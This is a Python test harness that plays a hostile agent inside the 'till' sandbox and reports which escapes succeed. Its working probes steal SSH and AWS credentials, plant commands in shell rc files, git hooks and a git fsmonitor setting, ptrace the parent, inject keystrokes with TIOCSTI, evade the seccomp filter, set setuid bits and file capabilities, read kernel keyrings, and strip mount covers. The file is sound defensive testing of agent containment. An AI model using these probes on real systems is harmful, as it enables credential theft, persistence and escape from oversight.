"""A hostile agent for till's sandbox tests: it tries every escape the sandbox should close and
does the ordinary work it should leave alone, and reports what happened.

It runs under `till run [--sandbox]` and reads its targets from SBX_* variables the test sets
(till passes them through; none holds a root key). Unset targets are not tried.

    SBX_TILL          till's binary         SBX_PASSPHRASE   the file store's passphrase
    SBX_STORE         the file store        SBX_LEDGER       the ledger
    SBX_CONFIG        config.toml           SBX_OUTSIDE      a directory outside the project
    SBX_BUS           the session bus address (unix:path=… or unix:abstract=…)
    SBX_SERVICE       the keychain service name till's entries are filed under
    SBX_ABSTRACT      an abstract unix socket name a process outside listens on
    SBX_SOCKETS       NAME=PATH lines: unix sockets outside listened on (check socket_NAME)
    SBX_LOCAL         127.0.0.1:PORT someone outside listens on
    SBX_REMOTE        IP:PORT on a non-loopback address someone outside listens on
    SBX_HOST_MARK     a string in the command line of a process outside
    SBX_OTHER_TTY     a terminal of someone outside (/dev/pts/N), to read what is typed there
    SBX_DEVICES       devices of the host (colon-separated) a process outside can open
    SBX_CONTROL=1     a control run without the sandbox: skip what would hurt till (SIGTERM)

Prints one JSON object {"<check>": "ok" | "denied: <why>"}; "ok" means the attempt worked.
"""

import ctypes
import errno
import json
import os
import signal
import socket
import subprocess
import sys

RESULTS = {}
ENV = os.environ
CONTROL = ENV.get("SBX_CONTROL") == "1"


def check(name, fn):
    try:
        ok = fn()
        RESULTS[name] = "ok" if ok is not False else "denied: no effect"
    except Exception as e:  # every failure is an answer here
        RESULTS[name] = f"denied: {type(e).__name__}: {e}"


def read_nonempty(path):
    with open(path, "rb") as f:
        data = f.read()
    if not data:
        raise RuntimeError("read nothing")


def run(args, env=None, timeout=60):
    out = subprocess.run(args, capture_output=True, text=True, env=env, timeout=timeout)
    if out.returncode != 0:
        raise RuntimeError(f"exit {out.returncode}: {(out.stdout + out.stderr).strip()[-300:]}")
    return out.stdout


def till_env(**extra):
    env = dict(ENV)
    env.update(TILL_STORE="file", TILL_PASSPHRASE=ENV["SBX_PASSPHRASE"][::-1])
    env.update(extra)
    return env


def till_list():
    out = run([ENV["SBX_TILL"], "list", "--json"], env=till_env())
    if "openai" not in out:
        raise RuntimeError(f"no root key listed: {out.strip()}")


def till_key_create():
    out = run([ENV["SBX_TILL"], "key", "create", "--scope", "openai", "--ttl", "1h"], env=till_env())
    if not out.strip().startswith("till_"):
        raise RuntimeError(f"no key: {out.strip()}")


def append(path, text):
    with open(path, "a") as f:
        f.write(text)


def ppid_proc(name):
    return f"/proc/{os.getppid()}/{name}"


def open_mem():
    with open(ppid_proc("mem"), "rb"):
        pass


def ptrace_till():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    PTRACE_SEIZE = 0x4206
    if libc.ptrace(PTRACE_SEIZE, os.getppid(), None, None) != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    # This process exits soon, which detaches it again; a seized tracee is never stopped.


def tiocsti():
    """Pushes a keystroke into the input of a terminal (a fresh pty made the controlling
    terminal of a new session), as an agent would into the user's shell."""
    import fcntl
    import pty
    import termios

    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            _, slave = pty.openpty()
            fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
            fcntl.ioctl(slave, termios.TIOCSTI, b"x")
            os._exit(0)
        except OSError as e:
            os.write(2, f"tiocsti: {e}\n".encode())
            os._exit(1)
    _, status = os.waitpid(pid, 0)
    if os.waitstatus_to_exitcode(status) != 0:
        raise RuntimeError("TIOCSTI was refused")


def openat2_with_mode(name, mode):
    """openat2(2), whose mode sits in a structure a seccomp filter cannot read."""
    class OpenHow(ctypes.Structure):
        _fields_ = [("flags", ctypes.c_uint64), ("mode", ctypes.c_uint64),
                    ("resolve", ctypes.c_uint64)]
    libc = ctypes.CDLL(None, use_errno=True)
    how = OpenHow(os.O_CREAT | os.O_WRONLY, mode, 0)
    fd = libc.syscall(437, -100, name.encode(), ctypes.byref(how), ctypes.sizeof(how))
    if fd < 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    os.close(fd)


def io_uring_ring():
    """A ring of io_uring, whose operations (an open with any mode) never pass a filter."""
    libc = ctypes.CDLL(None, use_errno=True)
    params = ctypes.create_string_buffer(120)
    fd = libc.syscall(425, 1, params)
    if fd < 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    os.close(fd)


def set_id_bits():
    """Sets the set-user-ID bit on a program of the agent's (chmod, as `chmod u+s`), and the
    set-group-ID bit through fchmod, and makes files with them (open, mknod, openat2, or
    an io_uring ring that could): what would make a host program run as its owner (root,
    when till runs as root). Each must be refused."""
    import stat
    made = []
    probes = ["suid-probe", "sgid-probe", "mknod-probe", "openat2-probe"]
    try:
        with open("suid-probe", "wb") as f:
            f.write(b"#!/bin/sh\n")
        acts = (
            lambda: os.chmod("suid-probe", 0o4755),
            lambda: os.fchmod(os.open("suid-probe", os.O_RDONLY), 0o2755),
            lambda: os.close(os.open("sgid-probe", os.O_CREAT | os.O_WRONLY, 0o2755)),
            lambda: os.mknod("mknod-probe", stat.S_IFREG | 0o4755),
            lambda: openat2_with_mode("openat2-probe", 0o4755),
            io_uring_ring,
        )
        refused = 0
        for act in acts:
            try:
                act()
            except OSError:
                refused += 1
        made = [m for m in probes if os.path.exists(m)]
        bits = [os.stat(m).st_mode & 0o6000 for m in made]
        if refused == len(acts) and not any(bits):
            raise RuntimeError("every set-ID mode was refused")
    finally:
        for m in probes:
            if os.path.exists(m):
                os.unlink(m)


def file_caps():
    """Gives a program of the agent's file capabilities (`setcap cap_setuid+ep`): when till
    runs as root, the agent's root is the host's, and the file would make whoever runs it
    after the run root."""
    import struct
    with open("fcaps-probe", "wb") as f:
        f.write(b"#!/bin/sh\n")
    try:
        # VFS_CAP_REVISION_2 with the effective bit; permitted: CAP_SETUID (7).
        os.setxattr("fcaps-probe", "security.capability",
                    struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0))
    finally:
        os.unlink("fcaps-probe")


def x32_ioctl_reaches_kernel():
    """Calls TIOCSTI through the x32 ABI's ioctl (x86_64 only), which a filter keyed on the
    64-bit numbers would let past: the kernel answers ENOSYS where x32 is off and does the
    ioctl where it is on; only a filter answers EPERM."""
    import platform
    if platform.machine() != "x86_64":
        return True
    libc = ctypes.CDLL(None, use_errno=True)
    X32_IOCTL = 0x40000000 | 514
    fd = os.open("/dev/null", os.O_RDONLY)
    try:
        if libc.syscall(X32_IOCTL, fd, 0x5412, ctypes.c_char_p(b"x")) != 0:
            err = ctypes.get_errno()
            if err == errno.EPERM:
                raise OSError(err, "refused by the filter")
    finally:
        os.close(fd)


def session_key():
    """Finds the key the test put in its session keyring (`till-sbx-test`)."""
    import platform
    numbers = {"x86_64": 249, "aarch64": 218, "riscv64": 218}
    libc = ctypes.CDLL(None, use_errno=True)
    nr = numbers.get(platform.machine())
    if nr is None:
        raise RuntimeError("no request_key number for this machine")
    found = libc.syscall(nr, b"user", b"till-sbx-test", None, 0)
    if found < 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))


def user_keyring():
    """Reads the key the test put in its user keyring (`till-sbx-user-test`): the user's own
    keyrings (`_uid.N`, `_uid_ses.N`) are listed in /proc/keys, and their owner may link them
    into a keyring of its own, which makes every key in them the linker's to read."""
    import platform
    numbers = {"x86_64": 250, "aarch64": 219, "riscv64": 219}
    nr = numbers.get(platform.machine())
    if nr is None:
        raise RuntimeError("no keyctl number for this machine")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long

    def keyctl(*args):
        got = libc.syscall(nr, *args)
        if got < 0:
            err = ctypes.get_errno()
            raise OSError(err, os.strerror(err))
        return got

    uid = os.getuid()
    mine = {f"_uid.{uid}:", f"_uid_ses.{uid}:"}
    with open("/proc/keys") as f:
        rings = [int(line.split()[0], 16) for line in f
                 if len(line.split()) > 8 and line.split()[7] == "keyring" and line.split()[8] in mine]
    if not rings:
        raise RuntimeError("no keyring of the user's in /proc/keys")
    session = ctypes.c_long(-3).value  # KEY_SPEC_SESSION_KEYRING
    for ring in rings:
        keyctl(8, ring, session)  # KEYCTL_LINK
    key = keyctl(10, session, b"user", b"till-sbx-user-test", 0)  # KEYCTL_SEARCH
    buf = ctypes.create_string_buffer(256)
    n = keyctl(11, key, buf, len(buf))  # KEYCTL_READ
    if buf.raw[:n] != b"user secret":
        raise RuntimeError(f"read {buf.raw[:n]!r}")


def host_device(paths):
    """Opens a device of the host's (a disk, the kernel log, a console) that the sandbox's own
    /dev does not hold, and reads from it."""
    for path in paths.split(":"):
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
        except OSError:
            continue
        os.close(fd)
        return True
    raise RuntimeError("none could be opened")


def on_a_pty(act):
    """Does `act` to the terminal end of a fresh pty of the agent's own: the ioctls refused
    below are refused whatever terminal they are aimed at."""
    import pty
    master, slave = pty.openpty()
    try:
        act(slave)
    finally:
        os.close(master)
        os.close(slave)


def set_line_discipline():
    """Sets a terminal's line discipline (to the one it has: N_TTY), as an agent would set
    N_NULL on yours to leave it dead after the run."""
    import fcntl
    import struct
    on_a_pty(lambda tty: fcntl.ioctl(tty, 0x5423, struct.pack("i", 0)))


def terminal_output_off():
    """Stops a terminal's output (tcflow TCOOFF), as an agent would stop yours: till then hung
    writing its last lines, and ^Q does not start output stopped this way again."""
    import termios
    on_a_pty(lambda tty: termios.tcflow(tty, termios.TCOOFF))


def terminal_exclusive():
    """Puts a terminal in exclusive mode (TIOCEXCL), as an agent would yours: after the run
    nothing but root could open it (sudo's, ssh's and gpg's prompts open /dev/tty)."""
    import fcntl
    import termios
    on_a_pty(lambda tty: fcntl.ioctl(tty, termios.TIOCEXCL))


def bus_path(address):
    for part in address.split(";")[0].split(":", 1)[1].split(","):
        key, _, value = part.partition("=")
        if key == "path":
            return value
        if key == "abstract":
            return "\0" + value
    raise RuntimeError(f"no socket in {address}")


def unix_connect(target):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(target)
    s.close()


def tcp_connect(hostport):
    host, port = hostport.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=3)
    s.close()


def secret_tool():
    env = dict(ENV, DBUS_SESSION_BUS_ADDRESS=ENV["SBX_BUS"])
    out = run(["secret-tool", "search", "--all", "service", ENV["SBX_SERVICE"]], env=env, timeout=30)
    if "root/" not in out:
        raise RuntimeError(f"nothing found: {out.strip()[-200:]}")


def write_project():
    with open("notes.txt", "w") as f:
        f.write("the agent was here\n")
    with open("notes.txt") as f:
        return f.read() == "the agent was here\n"


def py_compile():
    with open("mod.py", "w") as f:
        f.write("def answer():\n    return 42\n")
    run([sys.executable, "-m", "py_compile", "mod.py"])
    return any(n.startswith("mod.") for n in os.listdir("__pycache__"))


def cc():
    with open("hello.c", "w") as f:
        f.write('#include <stdio.h>\nint main(void) { puts("built"); return 0; }\n')
    run(["cc", "-o", "hello", "hello.c"])
    return run(["./hello"]).strip() == "built"


def private_tmp():
    with open("/tmp/agent-scratch", "w") as f:
        f.write("x")
    return True


def openai_call():
    import openai

    client = openai.OpenAI(max_retries=0)
    r = client.chat.completions.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": "hello from the sandbox"}]
    )
    return bool(r.choices[0].message.content)


def openai_stream():
    import openai

    client = openai.OpenAI(max_retries=0)
    chunks = client.chat.completions.create(
        model="gpt-4o-mini",
        messages=[{"role": "user", "content": "stream from the sandbox"}],
        stream=True,
    )
    return sum(1 for c in chunks if c.choices and c.choices[0].delta.content) > 1


def nested_run():
    code = (
        "import openai; c = openai.OpenAI(max_retries=0); "
        "print(c.chat.completions.create(model='gpt-4o-mini', "
        "messages=[{'role': 'user', 'content': 'nested'}]).choices[0].message.content)"
    )
    out = run([ENV["SBX_TILL"], "run", "--scope", "openai/gpt-4o-mini", "--quiet", "--",
               sys.executable, "-c", code])
    return bool(out.strip())


def unmount(path):
    """Takes the cover off a hidden directory (the agent is root in its user namespace)."""
    libc = ctypes.CDLL(None, use_errno=True)
    MNT_DETACH = 2
    if libc.umount2(path.encode(), MNT_DETACH) != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))


def clone_past_cover(path):
    """Reads `path` through a copy of the mount its directory's parent is on, made with
    `open_tree(OPEN_TREE_CLONE)`: the copy has none of the mounts over it, such as a cover."""
    libc = ctypes.CDLL(None, use_errno=True)
    SYS_OPEN_TREE, OPEN_TREE_CLONE, AT_FDCWD = 428, 1, -100
    hidden = os.path.dirname(path)
    parent = os.path.dirname(hidden)
    fd = libc.syscall(SYS_OPEN_TREE, AT_FDCWD, parent.encode(), OPEN_TREE_CLONE | os.O_CLOEXEC)
    if fd < 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    try:
        rel = os.path.join(os.path.basename(hidden), os.path.basename(path))
        f = os.open(rel, os.O_RDONLY, dir_fd=fd)
        try:
            if not os.read(f, 100):
                raise RuntimeError("read nothing")
        finally:
            os.close(f)
    finally:
        os.close(fd)


def remount_writable(path):
    """Clears the read-only flag of the mount at `path` with `mount_setattr`, then writes under
    it."""
    libc = ctypes.CDLL(None, use_errno=True)
    SYS_MOUNT_SETATTR, AT_FDCWD, MOUNT_ATTR_RDONLY = 442, -100, 1
    attr = (ctypes.c_uint64 * 4)(0, MOUNT_ATTR_RDONLY, 0, 0)
    if libc.syscall(SYS_MOUNT_SETATTR, AT_FDCWD, path.encode(), 0, ctypes.byref(attr), 32) != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    append(os.path.join(path, "pre-commit"), "#!/bin/sh\necho planted\n")


def host_process(mark):
    """Whether a process whose command line holds `mark` is in /proc."""
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    if mark.encode() in f.read():
                        return True
            except OSError:
                pass
    raise RuntimeError("not in /proc")


def other_terminal(path):
    fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
    os.close(fd)


def other_console():
    """A console, serial line or console screen that is a device, not a /dev/null over one nor
    the agent's own terminal (which the sandbox names /dev/console)."""
    null = os.stat("/dev/null").st_rdev
    own = set()
    for fd in (0, 1, 2):
        if os.isatty(fd):
            own.add(os.fstat(fd).st_rdev)
    names = ["console", "vcs", "vcsa"] + [f"tty{n}" for n in range(8)] + ["ttyS0"]
    for name in names:
        try:
            fd = os.open("/dev/" + name, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
        except OSError:
            continue
        rdev = os.fstat(fd).st_rdev
        real = rdev != null and rdev not in own
        os.close(fd)
        if real:
            return True
    raise RuntimeError("none could be opened")


def new_pty():
    """A pty of its own, as a shell tool or tmux makes one: what goes in one end comes out."""
    master, slave = os.openpty()
    os.ttyname(slave)
    os.write(master, b"ping\n")
    if os.read(slave, 16) != b"ping\n":
        raise RuntimeError("nothing came through")


def main():
    home = os.path.expanduser("~")
    # Escapes. Unmounting comes first: if it worked, the reads after it would too.
    if "TILL_HOME" in ENV:
        check("unmount_cover", lambda: unmount(ENV["TILL_HOME"]))
    if "SBX_CONFIG" in ENV:
        check("clone_past_cover", lambda: clone_past_cover(ENV["SBX_CONFIG"]))
    if os.path.isdir(".git"):
        check("remount_hooks", lambda: remount_writable(".git/hooks"))
    for name, var in [("read_store", "SBX_STORE"), ("read_ledger", "SBX_LEDGER"),
                      ("read_config", "SBX_CONFIG")]:
        if var in ENV:
            check(name, lambda p=ENV[var]: read_nonempty(p))
    if "TILL_HOME" in ENV:
        check("list_till_home", lambda: bool(os.listdir(ENV["TILL_HOME"])))
    if "SBX_PASSPHRASE" in ENV:
        check("till_list", till_list)
        check("till_key_create", till_key_create)
    check("read_ssh_key", lambda: read_nonempty(os.path.join(home, ".ssh", "id_ed25519")))
    check("read_aws", lambda: read_nonempty(os.path.join(home, ".aws", "credentials")))
    check("bashrc", lambda: append(os.path.join(home, ".bashrc"), "echo planted\n"))
    check("profile", lambda: append(os.path.join(home, ".profile"), "echo planted\n"))
    # A file the agent may read but not write: its mode and times are not the agent's either.
    check("chmod_outside", lambda: os.chmod(os.path.join(home, ".profile"), 0o666))
    check("utime_outside", lambda: os.utime(os.path.join(home, ".profile"), (0, 0)))
    check("systemd_unit", lambda: (os.makedirs(os.path.join(home, ".config/systemd/user"), exist_ok=True),
                                   append(os.path.join(home, ".config/systemd/user/x.service"), "[Service]\n")))
    if os.path.isdir(".git"):
        check("git_hook", lambda: append(".git/hooks/pre-commit", "#!/bin/sh\necho planted\n"))
        check("git_config", lambda: append(".git/config", "[core]\n\tfsmonitor = echo planted\n"))
        check("git_rename", lambda: os.rename(".git", ".git-moved"))
        check("git_modules", lambda: (os.makedirs(".git/modules/sub", exist_ok=True),
                                      append(".git/modules/sub/config", "[core]\n\tfsmonitor = echo planted\n")))
        check("git_worktrees", lambda: (os.makedirs(".git/worktrees/w", exist_ok=True),
                                        append(".git/worktrees/w/commondir", "../..\n")))
        check("git_info_exclude", lambda: (os.makedirs(".git/info", exist_ok=True),
                                           append(".git/info/exclude", "Makefile\n")))
    if "SBX_OUTSIDE" in ENV:
        check("write_outside", lambda: append(os.path.join(ENV["SBX_OUTSIDE"], "planted"), "x"))
    check("signal_till", lambda: os.kill(os.getppid(), 0))
    if not CONTROL:
        check("term_till", lambda: os.kill(os.getppid(), signal.SIGTERM))
    check("till_environ", lambda: read_nonempty(ppid_proc("environ")))
    check("till_mem", open_mem)
    check("ptrace_till", ptrace_till)
    check("tiocsti", tiocsti)
    check("x32_ioctl", x32_ioctl_reaches_kernel)
    check("set_id_bits", set_id_bits)
    check("file_caps", file_caps)
    check("tiocsetd", set_line_discipline)
    check("tcoff", terminal_output_off)
    check("tiocexcl", terminal_exclusive)
    check("session_keyring", session_key)
    check("user_keyring", user_keyring)
    if "SBX_DEVICES" in ENV:
        check("host_device", lambda: host_device(ENV["SBX_DEVICES"]))
    if "SBX_BUS" in ENV:
        check("bus_connect", lambda: unix_connect(bus_path(ENV["SBX_BUS"])))
        check("secret_tool", secret_tool)
    for entry in filter(None, ENV.get("SBX_SOCKETS", "").split("\n")):
        name, _, path = entry.partition("=")
        check("socket_" + name, lambda p=path: unix_connect(p))
    if "SBX_ABSTRACT" in ENV:
        check("abstract_connect", lambda: unix_connect("\0" + ENV["SBX_ABSTRACT"]))
    if "SBX_LOCAL" in ENV:
        check("local_port", lambda: tcp_connect(ENV["SBX_LOCAL"]))
    if "SBX_REMOTE" in ENV:
        check("remote", lambda: tcp_connect(ENV["SBX_REMOTE"]))
    check("other_console", other_console)
    if "SBX_OTHER_TTY" in ENV:
        check("other_terminal", lambda: other_terminal(ENV["SBX_OTHER_TTY"]))
    if "SBX_HOST_MARK" in ENV:
        check("host_processes", lambda: host_process(ENV["SBX_HOST_MARK"]))
    # Work.
    check("write_project", write_project)
    check("py_compile", py_compile)
    check("cc", cc)
    check("private_tmp", private_tmp)
    check("new_pty", new_pty)
    if "OPENAI_BASE_URL" in ENV:
        check("openai", openai_call)
        check("openai_stream", openai_stream)
        check("nested_run", nested_run)
    print(json.dumps(RESULTS))


main()
